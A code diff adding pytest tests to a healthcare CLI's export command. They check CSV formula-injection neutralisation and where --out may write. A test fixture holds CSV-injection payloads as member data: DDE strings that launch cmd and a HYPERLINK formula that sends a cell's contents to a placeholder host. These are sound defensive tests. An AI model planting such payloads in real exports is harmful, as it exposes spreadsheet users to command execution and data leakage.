@@ -13,6 +13,7 @@ import io
 import json
 import os
 import re
+import socket
 import stat
 import uuid
 from collections.abc import Iterator, Sequence
@@ -22,13 +23,15 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from sqlalchemy import Engine, text
 from sqlalchemy.exc import DBAPIError
 
 from carecli.config import load_settings
 from carecli.data.actor import Actor
 from carecli.data.bulk.catalog import COLUMNS
-from carecli.data.bulk.export import columns_for, parse_where, run_export, stream
+from carecli.data.bulk.export import FORMULA_TRIGGERS, columns_for, neutralise_cell, parse_where, run_export, stream
 from carecli.data.crypto.keystore import open_cipher
 from carecli.data.crypto.master import LocalMasterKey, encode_key, generate_master_key
 from carecli.data.crypto.phi import DateOfBirth, Ssn
@@ -94,12 +97,12 @@ class Installation:
         databases = Databases(identity=self.identity, platform=self.platform)
         return create_api_token(databases, actor, name=f"export {role}", scopes=scopes).secret, user_id
 
-    def cli(self, *args: str, token: str | None = None) -> Result:
+    def cli(self, *args: str, token: str | None = None, process: bool = False) -> Result:
         env = {**self.pair.env, "CARECLI_MASTER_KEY": encode_key(self.master_key),
                "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"}
         if token:
             env["CARECLI_TOKEN"] = token
-        return run_carecli("export", *args, env=env)
+        return run_carecli("export", *args, env=env, process=process)
 
 
 def parse(output: str, fmt: str) -> list[dict[str, Any]]:
@@ -547,3 +550,188 @@ def test_standard_output_is_utf8_bytes_without_deprecated_click_calls(
         with _standard_output() as out:
             out.write("Zoë,Ōta\n")
     assert capfdbinary.readouterr().out == "Zoë,Ōta\n".encode("utf-8")
+
+
+# -- CSV injection ----------------------------------------------------------------------------------------
+
+#: member columns set to what a spreadsheet would run as a formula (OWASP "CSV Injection")
+HOSTILE = {
+    "first_name": "=cmd|' /C calc'!A0",
+    "last_name": '+HYPERLINK("http://example.invalid/?d="&A1,"Open, please")',  # a comma and quotes inside
+    "email": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "address_line1": "-2+3+cmd|' /C calc'!A0",
+    "address_line2": "\t=1+2",
+    "city": "\r=1+2",
+}
+HOSTILE_NUMBER = "\n=HYPERLINK(\"http://example.invalid\")"  # the external member number, a line feed first
+
+
+@pytest.fixture
+def hostile(site: Installation) -> Iterator[str]:
+    """A live member whose text columns start with formula characters (written past the app's checks, as
+    old or imported data may be), the phone a valid E.164 number and the ZIP a signed plain number; the id.
+    Soft-deleted afterwards, so the other tests' exports do not see it."""
+    with site.uow(make_actor(role="admin")) as uow:
+        member = uow.members.create({**MEMBER_VALUES, "first_name": "Hostile", "phone": "(503) 555-0199"})
+        uow.metadata.put("member", member.id, "external_member_number", HOSTILE_NUMBER)
+        uow.commit()
+    sets = ", ".join(f"{name} = :{name}" for name in HOSTILE)
+    site.sql(f"UPDATE members SET {sets}, zip_code = '-42' WHERE id = :id", id=member.id, **HOSTILE)
+    try:
+        yield str(member.id)
+    finally:
+        site.sql("UPDATE members SET deleted_at = now() WHERE id = :id", id=member.id)
+        site.sql("UPDATE metadata SET deleted_at = now() WHERE entity_id = :id", id=member.id)
+
+
+def test_csv_cells_that_would_run_as_formulas_get_a_leading_quote_unless_raw(site: Installation,
+                                                                             hostile: str) -> None:
+    expected = {**HOSTILE, "external_member_number": HOSTILE_NUMBER}
+    row = next(row for row in site.export("members") if row["id"] == hostile)
+    # Each cell comes back whole (the comma, quotes and line breaks inside stay in it), with the quote.
+    assert {name: row[name] for name in expected} == {name: "'" + value for name, value in expected.items()}
+    # Plain signed numbers are not formulas: the E.164 phone (which import would refuse quoted) and -42.
+    assert (row["phone"], row["zip_code"], row["first_name"][:2]) == ("+15035550199", "-42", "'=")
+
+    with site.uow(make_actor()) as uow:
+        out = io.StringIO(newline="")
+        run_export(uow, "members", out, "csv", raw=True)
+    raw = next(row for row in parse(out.getvalue(), "csv") if row["id"] == hostile)
+    assert {name: raw[name] for name in expected} == expected
+    document = next(row for row in site.export("members", fmt="jsonl") if row["id"] == hostile)
+    assert {name: document[name] for name in expected} == expected  # JSON Lines: never escaped
+
+
+def test_cli_neutralises_csv_by_default_and_raw_turns_it_off(site: Installation, hostile: str,
+                                                             tmp_path: Path) -> None:
+    token, _ = site.token("admin", ["export:run"])
+    for args, prefix in [((), "'"), (("--raw",), "")]:
+        target = tmp_path / "members.csv"
+        out = site.cli("members", "--out", str(target), *args, token=token)
+        assert out.code == 0, out.err
+        with target.open(encoding="utf-8", newline="") as file:  # the carriage return as written
+            row = next(row for row in parse(file.read(), "csv") if row["id"] == hostile)
+        assert {name: row[name] for name in HOSTILE} == {name: prefix + value for name, value in HOSTILE.items()}
+        assert row["phone"] == "+15035550199"
+    out = site.cli("members", "--format", "jsonl", "--raw", token=token)  # --raw changes nothing in JSON Lines
+    assert out.code == 0, out.err
+    document = next(row for row in parse(out.out, "jsonl") if row["id"] == hostile)
+    assert {name: document[name] for name in HOSTILE} == HOSTILE
+
+
+_FORMULA_START = st.sampled_from(sorted(FORMULA_TRIGGERS) + ["", "'", "a", "1", " ="])
+
+
+@settings(max_examples=300, deadline=None)
+@given(value=st.one_of(st.tuples(_FORMULA_START, st.text(max_size=20)).map("".join),
+                       st.from_regex(r"[+-][0-9]{1,15}(\.[0-9]{1,4})?", fullmatch=True)))
+def test_a_neutralised_cell_never_starts_a_formula_and_only_ever_gains_one_quote(value: str) -> None:
+    cell = neutralise_cell(value)
+    assert cell in (value, "'" + value)
+    if cell[:1] in FORMULA_TRIGGERS:  # left alone only as a plain signed number, nothing to run
+        assert cell == value and re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell)
+    assert neutralise_cell(cell) == cell  # once is enough: the quote is not a trigger
+    # As a CSV cell it reads back whole, whatever separators, quotes or line breaks it holds.
+    text = io.StringIO(newline="")
+    csv.writer(text).writerow(["x", cell, "y"])
+    assert next(csv.reader(io.StringIO(text.getvalue(), newline=""))) == ["x", cell, "y"]
+
+
+# -- where --out may write ------------------------------------------------------------------------------------
+
+
+def _refused_out(site: Installation, target: str, what: str, **options: Any) -> None:
+    """``--out target`` is a usage error naming ``what`` and the rule, before anything is read (no audit row)."""
+    token, user_id = site.token("admin", ["export:run"])
+    exports = len(site.audit(user_id, "export"))
+    out = site.cli("plans", "--out", target, token=token, **options)
+    assert out.code == 2, (out.code, out.err)
+    assert f"--out {target} is {what}: --out writes only a regular file (replaced whole) or a new file" in out.err
+    assert len(site.audit(user_id, "export")) == exports
+
+
+def test_out_refuses_a_fifo_and_leaves_it_a_fifo(site: Installation, tmp_path: Path) -> None:
+    fifo = tmp_path / "plans.csv"
+    os.mkfifo(fifo, 0o644)
+    _refused_out(site, str(fifo), "a pipe (FIFO)")
+    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and os.listdir(tmp_path) == ["plans.csv"]
+
+
+def test_out_refuses_character_devices_and_dev_null_stays_one(site: Installation, tmp_path: Path) -> None:
+    before = os.stat("/dev/null")
+    _refused_out(site, "/dev/null", "a character device")
+    link = tmp_path / "null.csv"
+    link.symlink_to("/dev/null")
+    _refused_out(site, str(link), "a character device (through a symbolic link)")
+    after = os.stat("/dev/null")
+    assert stat.S_ISCHR(after.st_mode) and (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
+    assert os.path.islink(link) and os.listdir(tmp_path) == ["null.csv"]
+
+
+def test_out_refuses_a_character_device_of_its_own(site: Installation, tmp_path: Path) -> None:
+    # Made by the test (root may), so that the unfixed command replacing it harms nothing of the machine's.
+    device = tmp_path / "device.csv"
+    try:
+        os.mknod(device, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
+    except PermissionError:
+        pytest.skip("making a device needs root (CAP_MKNOD)")
+    _refused_out(site, str(device), "a character device")
+    assert stat.S_ISCHR(os.lstat(device).st_mode) and os.listdir(tmp_path) == ["device.csv"]
+
+
+def test_out_refuses_standard_output_by_path(site: Installation) -> None:
+    # In a process of its own, standard output is a pipe: /dev/stdout leads to it.
+    _refused_out(site, "/dev/stdout", "a pipe (FIFO) (through a symbolic link)", process=True)
+
+
+def test_out_refuses_a_directory_a_socket_and_a_link_to_nothing(site: Installation, tmp_path: Path) -> None:
+    _refused_out(site, str(tmp_path), "a directory")
+    server = socket.socket(socket.AF_UNIX)
+    try:
+        server.bind(str(tmp_path / "s"))
+        _refused_out(site, str(tmp_path / "s"), "a socket")
+    finally:
+        server.close()
+    (tmp_path / "gone.csv").symlink_to(tmp_path / "missing.csv")
+    _refused_out(site, str(tmp_path / "gone.csv"), "a symbolic link to nothing")
+    assert sorted(os.listdir(tmp_path)) == ["gone.csv", "s"]
+
+
+def test_out_through_a_link_replaces_the_regular_file_it_leads_to(site: Installation, tmp_path: Path) -> None:
+    token, _ = site.token("admin", ["export:run"])
+    (tmp_path / "real").mkdir()
+    real = tmp_path / "real" / "plans.csv"
+    real.write_text("old\n", encoding="utf-8")
+    link = tmp_path / "plans.csv"
+    link.symlink_to(real)
+    out = site.cli("plans", "--out", str(link), token=token)
+    assert out.code == 0, out.err
+    assert os.path.islink(link) and os.readlink(link) == str(real)  # the link stays, its file is replaced
+    assert len(parse(real.read_text(encoding="utf-8"), "csv")) == len(live_ids(site, "insurance_plans"))
+    assert stat.S_IMODE(real.stat().st_mode) == 0o600 and os.listdir(tmp_path / "real") == ["plans.csv"]
+
+
+def test_out_names_and_paths_over_the_system_limits_are_usage_errors(site: Installation, tmp_path: Path) -> None:
+    token, user_id = site.token("admin", ["export:run"])
+    exports = len(site.audit(user_id, "export"))
+    for target, message in [
+        (tmp_path / ("n" * 252 + ".csv"), "--out: a name in the path is 256 bytes long; names may have at most 255"),
+        (tmp_path / ("é" * 126 + ".csv"), "--out: a name in the path is 256 bytes long"),  # bytes, not characters
+        (tmp_path.joinpath(*["d" * 200] * 25, "plans.csv"), "--out: the path is"),
+    ]:
+        out = site.cli("plans", "--out", str(target), token=token)
+        assert out.code == 2 and message in out.err, out.err
+        assert "internal error" not in out.err and str(target) not in out.err
+    assert os.listdir(tmp_path) == [] and len(site.audit(user_id, "export")) == exports
+    # The longest name allowed is written (the temporary file beside it gets a shortened name).
+    longest = tmp_path / ("n" * 251 + ".csv")
+    out = site.cli("plans", "--out", str(longest), token=token)
+    assert out.code == 0, out.err
+    assert os.listdir(tmp_path) == [longest.name]
+
+
+def test_out_dash_is_standard_output(site: Installation) -> None:
+    token, _ = site.token("admin", ["export:run"])
+    out = site.cli("plans", "--out", "-", token=token)
+    assert out.code == 0, out.err
+    assert len(parse(out.out, "csv")) == len(live_ids(site, "insurance_plans"))
